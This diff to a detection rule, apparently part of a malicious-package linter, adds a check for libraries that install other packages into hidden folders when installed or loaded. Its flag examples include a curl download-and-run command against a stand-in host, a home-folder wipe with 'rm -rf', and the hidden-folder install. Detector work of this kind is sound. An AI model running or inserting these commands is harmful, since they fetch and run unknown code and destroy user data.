@@ -32,6 +32,7 @@ export default defineRule({
       scheduled: 'Makes something start again and again, when its command is called: {command}',
       executable: 'Starts a program: {command}',
       'odd-contact': 'Hands the shell a command that {says}: {command}',
+      installs: 'Hands the shell a command that {says}: {command}',
     },
     bits: {
       'reverse-shell': 13.5,
@@ -50,10 +51,15 @@ export default defineRule({
       scheduled: 2,
       executable: 3,
       'odd-contact': 9,
+      installs: 8,
     },
   },
   examples: {
     flags: [
+      {
+        title: 'a library that is loaded installs another into a hidden folder',
+        code: `const { execSync } = require('child_process');\nconst folder = require('os').homedir() + '/.cache_files';\nexecSync('npm i other-client --prefix ' + folder);\nrequire(folder + '/node_modules/other-client');`,
+      },
       {
         title: 'a program is downloaded and started',
         code: `require('child_process').exec('curl https://stage.invalid/a.exe -o a.exe && a.exe');`,
@@ -89,6 +95,10 @@ export default defineRule({
       { title: 'the home folder is wiped', code: `require('child_process').execSync('rm -rf ~/');` },
     ],
     passes: [
+      {
+        title: 'a package is installed where the project is, and into a folder one sees',
+        code: `const { execSync } = require('child_process');\nexecSync('npm install typescript');\nexecSync('npm install --prefix ' + require('os').homedir() + '/tools plugin');`,
+      },
       {
         title: 'a shell is given a harmless line, and another program a text with commands in it',
         code: `const { spawn } = require('child_process');\nspawn('sh').stdin.end('make all');\nspawn('bash', ['build.sh']).stdin.end('yes');\nspawn('cat').stdin.end('how to: curl -fsSL');`,
@@ -143,7 +153,9 @@ export default defineRule({
       const [program, list] = call.args;
       if (!program) continue;
       const commands = context.commandsOf(program, list);
-      const [worst] = deedsOf(commands).filter(({ deed }) => !QUIET.has(deed));
+      const deeds = deedsOf(commands);
+      const worst =
+        deeds.find(({ deed }) => !QUIET.has(deed)) ?? deeds.find(({ says }) => installsOutOfSight(context, says));
       if (
         !worst ||
         (worst.deed === 'executable' &&
@@ -158,6 +170,11 @@ export default defineRule({
     }
   },
 });
+
+/** A tool keeps its plugins in a hidden folder, for who calls it: whoever is only loaded has none to keep. */
+function installsOutOfSight({ moment }: FileContext, says: string): boolean {
+  return (moment === 'install' || moment === 'import') && says.endsWith('into a hidden folder');
+}
 
 interface Line {
   readonly line: AnyNode;
